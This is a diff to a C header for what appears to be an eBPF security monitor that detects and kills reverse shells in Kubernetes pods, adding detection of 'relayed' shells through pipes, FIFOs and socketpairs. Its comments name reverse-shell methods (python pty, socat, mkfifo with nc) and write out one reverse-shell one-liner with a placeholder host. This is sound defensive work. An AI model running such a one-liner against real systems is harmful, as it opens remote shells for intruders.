@@ -402,11 +402,12 @@ struct pw_packet_record {
 #define PW_MAP_PROCESS_COUNTERS_NAME "pw_proc_counters"
 #define PW_MAP_EXEC_NAMES_NAME	     "pw_exec_names"
 
-#define PW_PROG_EXEC_NAME "pw_exec"
-#define PW_PROG_FORK_NAME "pw_fork"
-#define PW_PROG_EXIT_NAME "pw_exit"
-#define PW_PROG_DUP2_NAME "pw_dup2"
-#define PW_PROG_DUP3_NAME "pw_dup3"
+#define PW_PROG_EXEC_NAME    "pw_exec"
+#define PW_PROG_FORK_NAME    "pw_fork"
+#define PW_PROG_EXIT_NAME    "pw_exit"
+#define PW_PROG_DUP2_NAME    "pw_dup2"
+#define PW_PROG_DUP3_NAME    "pw_dup3"
+#define PW_PROG_CONNECT_NAME "pw_connect_relay"
 
 #define PW_PROCESS_EVENTS_DEFAULT_BYTES (4 << 20)
 /* Events that need no judgement now (forks, exits, ordinary execs) do not
@@ -426,8 +427,10 @@ struct pw_packet_record {
  * their cgroup descends from the pods' cgroup (kubepods.slice), which costs
  * a host process one array lookup and a few CO-RE reads of its cgroup ancestry. */
 enum pw_process_policy {
-	PW_POLICY_KILL_REVERSE_SHELL = 1 << 0, /* SIGKILL a shell exec'd with an inet socket on 0-2 */
-	PW_POLICY_KILL_DENIED = 1 << 1,	       /* SIGKILL an exec whose name is PW_EXEC_DENIED */
+	/* SIGKILL a shell exec'd with an inet socket on 0-2 or made one of them
+	 * with dup2/dup3, and a relayed shell (see PW_RELAY_WINDOW_NS). */
+	PW_POLICY_KILL_REVERSE_SHELL = 1 << 0,
+	PW_POLICY_KILL_DENIED = 1 << 1, /* SIGKILL an exec whose name is PW_EXEC_DENIED */
 };
 
 struct pw_process_config {
@@ -453,7 +456,7 @@ enum pw_process_counter {
 	PW_PCNT_FORKS,
 	PW_PCNT_EXITS,
 	PW_PCNT_RINGBUF_DROPS, /* events lost: the process ring was full */
-	PW_PCNT_KILLS,	       /* SIGKILLs sent at exec */
+	PW_PCNT_KILLS,	       /* SIGKILLs sent (at exec, dup2/dup3, a relay's connect) */
 	PW_PCNT_READ_ERRORS,   /* a field could not be read (left empty, flagged) */
 	PW_PCNT_MAX,
 };
@@ -462,7 +465,8 @@ enum pw_process_event_type {
 	PW_EVENT_EXEC = 16,
 	PW_EVENT_FORK = 17,
 	PW_EVENT_EXIT = 18,
-	PW_EVENT_STDIO_SOCKET = 19, /* a socket dup'ed onto fd 0-2 of a running shell */
+	PW_EVENT_STDIO_SOCKET = 19,  /* a socket dup'ed onto fd 0-2 of a running shell */
+	PW_EVENT_RELAY_CONNECT = 20, /* a process sharing a pipe with a relayed shell connected out */
 };
 
 /* What a file descriptor is. */
@@ -497,6 +501,46 @@ enum pw_exec_flag {
 	PW_EXEC_ARGS_TRUNCATED = 1 << 1,
 	PW_EXEC_READ_ERROR = 1 << 2, /* some field could not be read */
 	PW_EXEC_STDIO_INET = 1 << 3, /* an inet socket is on fd 0, 1 or 2 */
+	PW_EXEC_RELAYED = 1 << 4,    /* a relayed shell (PW_RELAY_WINDOW_NS) */
+};
+
+/* A relayed shell: a shell or interpreter that reads its commands from its
+ * stdin (no -c, -e, ... and no script argument), where stdin is a pipe, pty
+ * or unix socket, and a process of its pod holds a TCP connection to a
+ * non-loopback address it opened within this window of the shell's exec:
+ * the shell's parent (python's pty relay, socat's socketpair), or a process
+ * on the other side of a pipe of the shell's stdio (mkfifo + nc). Decided at whichever
+ * comes second: the shell's exec (the shell is killed) or the relay's
+ * connect() (the relay is killed, before its connection exists). */
+#define PW_RELAY_WINDOW_NS	  (30ULL * 1000000000ULL)
+#define PW_RELAY_CONNECTS_ENTRIES 16384
+#define PW_RELAY_PIPES_ENTRIES	  16384
+
+/* A TCP connect() to a non-loopback address by a pod's process: the value
+ * of the kernel's table of recent ones (by tgid), and what an exec event
+ * of a relayed shell says of its relay. */
+struct pw_relay_connection {
+	__u64 connect_ns; /* 0: none */
+	__u32 tgid;
+	__u16 remote_port;
+	__u8 pad[2];
+	__u8 remote_addr[16]; /* IPv4 mapped into IPv6 */
+	char comm[16];
+};
+
+/* Kernel-internal (never read by the agent): a pipe (by its kernel pipe
+ * object, shared by both ends and by a FIFO's openers) on the stdio of a
+ * stdin-reading shell or of a process that connected out; "reads" when it
+ * is the process's fd 0, "writes" as fd 1 or 2. A relay and its shell are on
+ * opposite sides (the relay reads what the shell writes, or the reverse):
+ * processes that merely share a container's log pipe as stdout are not. */
+struct pw_relay_pipe {
+	__u64 shell_reads_ns; /* when a stdin-reading shell had it as fd 0 */
+	__u64 shell_writes_ns;
+	__u64 relay_reads_ns; /* when a process with it as fd 0 connected out */
+	__u64 relay_writes_ns;
+	__u32 shell_tgid;
+	__u32 relay_tgid;
 };
 
 /* Process identity as every process event carries it. */
@@ -523,6 +567,7 @@ struct pw_exec_event {
 	char filename[PW_EXEC_PATH_BYTES];    /* as given to execve */
 	char interpreter[PW_EXEC_PATH_BYTES]; /* the script's interpreter, or the filename */
 	__u8 args[PW_EXEC_ARGS_BYTES];
+	struct pw_relay_connection relay; /* PW_EXEC_RELAYED: the relay's connection */
 };
 
 /* A shell made an inet socket its fd 0, 1 or 2 with dup2/dup3 (`exec 0<&5`
@@ -536,6 +581,20 @@ struct pw_stdio_socket_event {
 	__u32 uid;
 	char comm[16];
 	struct pw_stdio_fd socket;
+};
+
+/* A process with a pipe of a relayed shell's stdio on its own stdio
+ * called connect() to a non-loopback TCP address (`cat /tmp/f | sh -i |
+ * nc H P > /tmp/f`): it is the shell's relay, killed at the syscall's entry
+ * when the reverse-shell switch is on, before its connection exists. */
+struct pw_relay_connect_event {
+	struct pw_event_header header; /* PW_EVENT_RELAY_CONNECT, at connect()'s entry */
+	struct pw_process_id process;  /* the relay */
+	struct pw_relay_connection connection;
+	__u32 shell_tgid; /* the shell it would relay */
+	__u32 flags;	  /* PW_EXEC_KILLED: the relay was killed */
+	__u32 uid;
+	__u32 pad;
 };
 
 /* A new process (not a thread), or a process's end. */
